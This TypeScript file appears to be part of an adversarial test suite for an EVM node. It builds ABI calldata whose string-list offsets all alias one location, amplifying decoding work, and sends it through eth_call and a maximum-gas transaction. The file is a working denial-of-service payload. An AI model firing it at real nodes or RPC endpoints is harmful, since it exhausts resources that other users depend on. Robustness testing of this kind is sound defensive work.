import { Interface } from 'ethers';
import { multilayerAddress } from '../../../modules/addresses.ts';
import { concatBytes } from '../../../primitives/bytes.ts';
import { fromHex, toHex } from '../../../primitives/hex.ts';
import { type Attack, type AttackStage, sized } from '../attack.ts';
import { callOf, callsWithInput } from '../evm-loops.ts';
import { largestGas, openPayer } from '../mischief.ts';

const selector = new Interface(['function bundledFee(uint64,string[])']).getFunction('bundledFee')?.selector ?? '0x';
const word = (value: number) => fromHex(`0x${value.toString(16).padStart(64, '0')}`);

/** Calldata of bundledFee whose `count` texts all lie at the same place, `length` zero bytes long. */
export function aliasedTexts(count: number, length: number): Uint8Array {
  const offsets = Array.from({ length: count }, () => word(count * 32));
  return concatBytes(
    fromHex(selector),
    word(1),
    word(64),
    word(count),
    ...offsets,
    word(length),
    new Uint8Array(length),
  );
}

/** A list of texts that all lie at the same place: decoding them naively takes count × length bytes. */
export const abiAliasing: Attack = {
  summary: 'lists of texts that all lie at the same place in 1 MB of calldata of a module call',
  attack: async (stage) => {
    const { strangers, urls } = stage;
    const data = toHex(aliasedTexts(sized(stage, 15_625, 4_000), sized(stage, 500_000, 100_000)));
    const code = callsWithInput(multilayerAddress, 'GAS');
    await strangers.ask(urls.http ?? '', 'eth_call', ...callOf(code, { data }));
    await strangers.ask(urls.http ?? '', 'eth_call', { to: multilayerAddress, data }, 'latest');
    await sendIt(stage);
  },
};

async function sendIt(stage: AttackStage): Promise<void> {
  const payer = await openPayer(stage);
  const data = aliasedTexts(sized(stage, 12_500, 1_000), sized(stage, 390_000, 25_000));
  const hash = await payer.send({ to: multilayerAddress, value: 0n, data, gasLimit: largestGas });
  await payer.receipt(hash);
}
